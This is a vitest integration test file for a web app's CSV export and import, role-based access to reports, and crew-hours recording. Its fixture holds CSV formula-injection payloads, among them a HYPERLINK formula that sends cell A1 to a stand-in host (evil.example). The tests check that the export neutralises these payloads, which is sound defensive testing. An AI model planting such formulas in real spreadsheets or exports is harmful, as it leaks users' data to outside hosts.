// The owner's books against the built server on a fresh seeded PGlite: CSV export → import into
// an empty company gives the same customers and sites; formula cells are written as text (OWASP,
// "CSV Injection": https://owasp.org/www-community/attacks/CSV_Injection) and read back
// unchanged; a file with a bad row is refused whole with each row's problem and nothing stored;
// only the owner reaches the reports, their CSV and the import; crew hours recorded on a done
// job show in the crew-hours report. The files are read here with csv-parse, a reference CSV
// reader (RFC 4180), not with Clearpitch's own reading code.
import { parse } from 'csv-parse/sync';
import * as devalue from 'devalue';
import type { PGlite } from '@electric-sql/pglite';
import { openPglite } from '../helpers/pglite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashPassword } from '../../src/lib/server/auth/password';
import { localToday } from '../../src/lib/jobs/week';
import { signIn } from '../helpers/http';
import { acceptedEstimate, crewIds, postAction, scheduleViaForm } from '../helpers/jobs';
import { DEMO, seededDataDir, startServer, type TestServer } from '../helpers/server';
import { prepareDataDir, type Prepared } from './api-helpers';

let server: TestServer;
let dir: string;
let prep: Prepared;
const cookies = { owner: '', other: '', crew: '', estimator: '', sales: '' };
const OTHER_OWNER = { email: 'owner@marrowgate.example', password: 'marrowgate-books-2026' };

/** Hostile and awkward values, stored as they are (straight into the database, no form trims). */
const HOSTILE = {
	name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
	phone: '+1 (555) 010-0199',
	email: 'quill.ashdown@wrenfield.example',
	notes: '@SUM(A1:A9)\nsecond line, with "quotes", commas\r\nand a CRLF',
	address: '-12 Tallow Steps, Wrenfield',
	gateCode: '\t=1+1',
	pets: '\r=2+2',
	water: "'=already quoted by hand",
	siteNotes: "'plain apostrophe, not a formula"
};

async function withDb<T>(run: (db: PGlite) => Promise<T>): Promise<T> {
	const db = openPglite(dir);
	try {
		await db.waitReady;
		return await run(db);
	} finally {
		await db.close();
	}
}

beforeAll(async () => {
	dir = seededDataDir('books');
	prep = await prepareDataDir(dir);
	const hash = await hashPassword(OTHER_OWNER.password);
	await withDb(async (db) => {
		const company = (
			await db.query<{ id: string }>(`select id from companies order by created_at limit 1`)
		).rows[0].id;
		const cu = await db.query<{ id: string }>(
			`insert into customers (company_id, name, email, phone, notes) values ($1,$2,$3,$4,$5) returning id`,
			[company, HOSTILE.name, HOSTILE.email, HOSTILE.phone, HOSTILE.notes]
		);
		await db.query(
			`insert into sites (company_id, customer_id, address, lat, lon, notes, gate_code, pets, water_source, flags)
			 values ($1,$2,$3,$4,$5,$6,$7,$8,$9,$10)`,
			[
				company,
				cu.rows[0].id,
				HOSTILE.address,
				35.521234567891234,
				-74.46000000000001,
				HOSTILE.siteNotes,
				HOSTILE.gateCode,
				HOSTILE.pets,
				HOSTILE.water,
				JSON.stringify({ noGutters: false, pool: true })
			]
		);
		// An empty second company with its own owner: the import's target.
		const other = await db.query<{ id: string }>(
			`insert into companies (name) values ('Marrowgate Roof Care') returning id`
		);
		await db.query(
			`insert into users (company_id, email, name, role, password_hash) values ($1,$2,'Tobias Wrenhill','owner',$3)`,
			[other.rows[0].id, OTHER_OWNER.email, hash]
		);
	});
	server = await startServer(dir);
	let n = 0;
	const session = async (email: string, password?: string) => {
		const r = await signIn(server.url, email, password, { 'x-forwarded-for': `10.4.0.${++n}` });
		if (!r.cookie) throw new Error(`sign-in ${email}: ${r.status}`);
		return r.cookie;
	};
	cookies.owner = await session(DEMO.owner);
	cookies.other = await session(OTHER_OWNER.email, OTHER_OWNER.password);
	cookies.crew = await session(DEMO.crew);
	cookies.estimator = await session(DEMO.estimator);
	cookies.sales = await session(DEMO.sales);
}, 300_000);
afterAll(async () => {
	await server?.stop();
});

const get = (path: string, cookie = '') =>
	fetch(server.url + path, { redirect: 'manual', headers: cookie ? { cookie } : {} });

async function csvOf(path: string, cookie: string): Promise<string> {
	const r = await get(path, cookie);
	expect(r.status, path).toBe(200);
	expect(r.headers.get('content-type')).toMatch(/^text\/csv/);
	expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="clearpitch-/);
	return r.text();
}

/** Cells as a spreadsheet would get them: the reference reader, no apostrophe taken off. */
const raw = (csv: string): Record<string, string>[] =>
	parse(csv, { bom: true, columns: true, skip_empty_lines: true }) as Record<string, string>[];

type Reply = { status: number; type: string; data: Record<string, unknown> };

/** Posts the import form as the browser does (multipart, files) through `use:enhance`. */
async function postFiles(
	action: 'preview' | 'import',
	cookie: string,
	files: { customers?: string; sites?: string }
): Promise<Reply> {
	const fd = new FormData();
	for (const [k, v] of Object.entries(files)) {
		if (v !== undefined) fd.append(k, new Blob([v], { type: 'text/csv' }), `${k}.csv`);
	}
	const res = await fetch(`${server.url}/data?/${action}`, {
		method: 'POST',
		headers: {
			cookie,
			origin: server.url,
			accept: 'application/json',
			'x-sveltekit-action': 'true'
		},
		body: fd
	});
	const body = (await res.json()) as { type: string; status?: number; data?: string };
	return {
		status: body.status ?? res.status,
		type: body.type,
		data: body.data ? (devalue.parse(body.data) as Record<string, unknown>) : {}
	};
}

const TEXT_COLUMNS = {
	customers: ['name', 'email', 'phone', 'notes'],
	sites: ['address', 'notes', 'gate_code', 'pets', 'water_source']
};

describe('CSV export', () => {
	it('writes every formula-looking text cell with a leading apostrophe', async () => {
		const customers = raw(await csvOf('/data/customers', cookies.owner));
		const sites = raw(await csvOf('/data/sites', cookies.owner));
		for (const [rows, cols] of [
			[customers, TEXT_COLUMNS.customers],
			[sites, TEXT_COLUMNS.sites]
		] as const) {
			for (const row of rows)
				for (const c of cols) expect(row[c], `${c}: ${row[c]}`).not.toMatch(/^[=+\-@\t\r]/);
		}
		const hostile = customers.find((c) => c.name.includes('HYPERLINK'))!;
		expect(hostile.name).toBe(`'${HOSTILE.name}`);
		expect(hostile.phone).toBe(`'${HOSTILE.phone}`);
		expect(hostile.notes).toBe(`'${HOSTILE.notes}`);
		const site = sites.find((s) => s.customer_ref === hostile.customer_ref)!;
		expect(site).toMatchObject({
			address: `'${HOSTILE.address}`,
			gate_code: `'${HOSTILE.gateCode}`,
			pets: `'${HOSTILE.pets}`,
			water_source: `''=already quoted by hand`,
			notes: HOSTILE.siteNotes,
			// Numbers are numbers (a negative longitude is not a formula), at full precision.
			lat: '35.521234567891234',
			lon: '-74.46000000000001',
			no_gutters: 'no',
			pool: 'yes',
			plants_to_protect: '',
			power_line: ''
		});
	});

	it('exports estimates and jobs with their headers, and 404s an unknown list', async () => {
		// A UTF-8 byte-order mark first (fetch's text() drops it, so read the bytes).
		const bytes = new Uint8Array(await (await get('/data/estimates', cookies.owner)).arrayBuffer());
		expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		expect((await csvOf('/data/estimates', cookies.owner)).split('\r\n')[0]).toMatch(
			/^estimate_ref,site_ref,address,customer,status/
		);
		expect((await csvOf('/data/jobs', cookies.owner)).split('\r\n')[0]).toMatch(
			/^job_ref,estimate_ref,/
		);
		expect((await get('/data/invoices', cookies.owner)).status).toBe(404);
	});
});

/** A company's customers and sites as comparable rows: each site carries its customer's fields. */
async function snapshot(cookie: string) {
	const customers = raw(await csvOf('/data/customers', cookie));
	const sites = raw(await csvOf('/data/sites', cookie));
	const byRef = new Map(customers.map((c) => [c.customer_ref, c]));
	const strip = (c: Record<string, string>) =>
		Object.fromEntries(Object.entries(c).filter(([k]) => k !== 'customer_ref'));
	return {
		customers: customers.map((c) => JSON.stringify(strip(c))).sort(),
		sites: sites
			.map(({ site_ref: _s, customer_ref, ...rest }) =>
				JSON.stringify({ ...rest, customer: strip(byRef.get(customer_ref)!) })
			)
			.sort()
	};
}

describe('CSV import', () => {
	it('refuses a file with bad rows whole, naming each row, and stores nothing', async () => {
		const before = await snapshot(cookies.other);
		const customers = [
			'customer_ref,name,email,phone,notes',
			'c1,Rowena Pilgrim,rowena@wrenfield.example,,',
			'c2,,nobody@wrenfield.example,,',
			'c3,Ansel Thorne,not-an-email,,',
			'c1,Duplicate Ref,,,'
		].join('\r\n');
		const sites = [
			'site_ref,customer_ref,address,lat,lon,notes,gate_code,pets,water_source,no_gutters,plants_to_protect,pool,power_line',
			's1,c1,3 Wicket Lane,35.52,-74.46,,,,,yes,,,',
			's2,c9,5 Wicket Lane,35.52,-74.46,,,,,,,,',
			's3,c1,7 Wicket Lane,95,-74.46,,,,,maybe,,,',
			's4,c1,9 Wicket Lane,35.52'
		].join('\r\n');
		for (const action of ['preview', 'import'] as const) {
			const r = await postFiles(action, cookies.other, { customers, sites });
			expect(r.status, action).toBe(400);
			const problems = (r.data.problems as { file: string; line: number; column: string }[]).map(
				(p) => `${p.file}:${p.line}:${p.column}`
			);
			expect(problems).toEqual([
				'customers:3:name',
				'customers:4:email',
				'customers:5:customer_ref',
				'sites:3:customer_ref',
				'sites:4:lat',
				'sites:4:no_gutters',
				'sites:5:'
			]);
		}
		expect(await snapshot(cookies.other)).toEqual(before);
	});

	it('refuses files that are not the right CSV with a reason', async () => {
		const cases: [Record<string, string>, RegExp][] = [
			[{}, /Choose a customers file, a sites file, or both/],
			[{ customers: 'name,email\r\nA,a@b.example' }, /Missing columns: customer_ref, phone, notes/],
			[
				{ customers: 'customer_ref,name,email,phone,notes,shoe_size\r\nc1,A,,,,9' },
				/Unknown column "shoe_size"/
			],
			[{ customers: 'customer_ref,name,email,phone,notes\r\n"c1,A' }, /not valid CSV/],
			[{ customers: 'customer_ref,name,email,phone,notes\r\n' }, /no rows/],
			[{ customers: 'customer_ref,name,email,phone,notes\r\nc1,A\u0000B,,,' }, /NUL/]
		];
		const before = await snapshot(cookies.other);
		for (const [files, message] of cases) {
			const r = await postFiles('import', cookies.other, files);
			expect(r.status, JSON.stringify(files)).toBe(400);
			const messages = (r.data.problems as { message: string }[]).map((p) => p.message);
			expect(messages.join('\n'), JSON.stringify(files)).toMatch(message);
		}
		expect(await snapshot(cookies.other)).toEqual(before);
	});

	it('round trip: export → preview → import into an empty company gives the same rows', async () => {
		const customers = await csvOf('/data/customers', cookies.owner);
		const sites = await csvOf('/data/sites', cookies.owner);
		const from = await snapshot(cookies.owner);
		expect(from.customers.length).toBeGreaterThan(5);
		expect((await snapshot(cookies.other)).customers).toEqual([]);

		const preview = await postFiles('preview', cookies.other, { customers, sites });
		expect(preview.status).toBe(200);
		expect(preview.data.preview).toMatchObject({
			counts: { customers: from.customers.length, sites: from.sites.length },
			problems: []
		});
		// A preview writes nothing.
		expect((await snapshot(cookies.other)).customers).toEqual([]);

		const done = await postFiles('import', cookies.other, { customers, sites });
		expect(done.status).toBe(200);
		expect(done.data.imported).toEqual({
			customers: from.customers.length,
			sites: from.sites.length
		});
		expect(await snapshot(cookies.other)).toEqual(from);
		// The hostile values came back as they were stored, apostrophes and all.
		const back = raw(await csvOf('/data/customers', cookies.other)).find((c) =>
			c.name.includes('HYPERLINK')
		)!;
		expect(back.name).toBe(`'${HOSTILE.name}`);
		// The first company is untouched.
		expect(await snapshot(cookies.owner)).toEqual(from);
	});

	it('a customer exported from this company is not imported twice; its new sites attach to it', async () => {
		const mine = raw(await csvOf('/data/customers', cookies.owner));
		const ref = mine[0].customer_ref;
		const again = await postFiles('import', cookies.owner, {
			customers: `customer_ref,name,email,phone,notes\r\n${ref},Again,,,`
		});
		expect(again.status).toBe(400);
		expect(JSON.stringify(again.data.problems)).toMatch(/already in Clearpitch/);
		// Another company's customer reference is unknown here, not borrowed.
		const theirs = raw(await csvOf('/data/customers', cookies.other))[0].customer_ref;
		const header =
			'site_ref,customer_ref,address,lat,lon,notes,gate_code,pets,water_source,no_gutters,plants_to_protect,pool,power_line';
		const foreign = await postFiles('import', cookies.owner, {
			sites: `${header}\r\n,${theirs},11 Wicket Lane,35.52,-74.46,,,,,,,,`
		});
		expect(foreign.status).toBe(400);
		expect(JSON.stringify(foreign.data.problems)).toMatch(/No customer/);
		const sitesBefore = raw(await csvOf('/data/sites', cookies.owner)).length;
		const attach = await postFiles('import', cookies.owner, {
			sites: `${header}\r\n,${ref},13 Wicket Lane,35.52,-74.46,,,,,,,,`
		});
		expect(attach.status).toBe(200);
		const sites = raw(await csvOf('/data/sites', cookies.owner));
		expect(sites).toHaveLength(sitesBefore + 1);
		expect(sites.find((s) => s.address === '13 Wicket Lane')?.customer_ref).toBe(ref);
		expect(raw(await csvOf('/data/customers', cookies.owner))).toHaveLength(mine.length);
	});
});

describe('who may open the books', () => {
	const PATHS = ['/reports', '/reports/pipeline', '/data', '/data/customers'];

	it('only the owner: other roles get 403, a signed-out caller the sign-in page', async () => {
		for (const p of PATHS) {
			expect((await get(p, cookies.owner)).status, p).toBe(200);
			for (const role of ['crew', 'estimator', 'sales'] as const)
				expect((await get(p, cookies[role])).status, `${role} ${p}`).toBe(403);
			const anon = await get(p);
			expect(anon.status, p).toBe(303);
			expect(anon.headers.get('location')).toMatch(/^\/sign-in\?next=/);
		}
		expect((await get('/reports/made-up', cookies.owner)).status).toBe(404);
	});

	it('refuses the import to crew and signed-out callers and stores nothing', async () => {
		const before = await snapshot(cookies.owner);
		const customers = 'customer_ref,name,email,phone,notes\r\nz1,Crew Import,,,';
		expect((await postFiles('import', cookies.crew, { customers })).status).toBe(403);
		const anon = await fetch(`${server.url}/data?/import`, {
			method: 'POST',
			redirect: 'manual',
			headers: {
				origin: server.url,
				accept: 'text/html',
				'content-type': 'application/x-www-form-urlencoded'
			},
			body: new URLSearchParams({ customers })
		});
		expect(anon.status).toBe(303);
		expect(await snapshot(cookies.owner)).toEqual(before);
	});
});

describe('reports', () => {
	it('records crew hours on a done job only, and the crew-hours report and its CSV show them', async () => {
		const site = prep.sites.find((s) => s.houseId)!;
		const token = prep.ownerToken;
		const crew = (await crewIds(server.url, token))[DEMO.crew];
		const jobId = await scheduleViaForm(server.url, cookies.owner, {
			estimateId: await acceptedEstimate(server.url, token, site),
			date: localToday(),
			crewIds: [crew]
		});
		const hours = (fields: Record<string, string>) =>
			postAction(server.url, cookies.owner, '/reports?/hours', fields);
		// Not done yet: refused.
		expect((await hours({ jobId, hours: '3.5' })).status).toBe(409);
		const closed = await postAction(server.url, cookies.owner, `/crew/${jobId}?/done`, {
			reason: 'Books test: after photos kept on the crew phone.'
		});
		expect(closed.type).toBe('success');
		for (const bad of ['', '0', '-2', 'abc', '201', 'Infinity'])
			expect((await hours({ jobId, hours: bad })).status, bad).toBe(400);
		expect(
			(await hours({ jobId: '00000000-0000-4000-8000-000000000000', hours: '2' })).status
		).toBe(404);
		expect((await hours({ jobId: 'nope', hours: '2' })).status).toBe(400);
		expect((await hours({ jobId, hours: '3.5' })).type).toBe('success');
		// Recording again corrects it: one row, the later figure.
		expect((await hours({ jobId, hours: '4.25' })).type).toBe('success');
		const rows = raw(await csvOf('/reports/crew-hours', cookies.owner));
		const row = rows.find((r) => r.Job === site.address)!;
		expect(row['Hours recorded']).toBe('4.25');
		expect(Number(row['Difference (h)'])).toBeCloseTo(4.25 - Number(row['Hours estimated']), 1);
		// The job is done, so its revenue is in the month report.
		const month = raw(await csvOf('/reports/revenue-by-month', cookies.owner));
		expect(month.find((r) => r.Month === new Date().toISOString().slice(0, 7))?.['Jobs done']).toBe(
			'1'
		);
	});
});
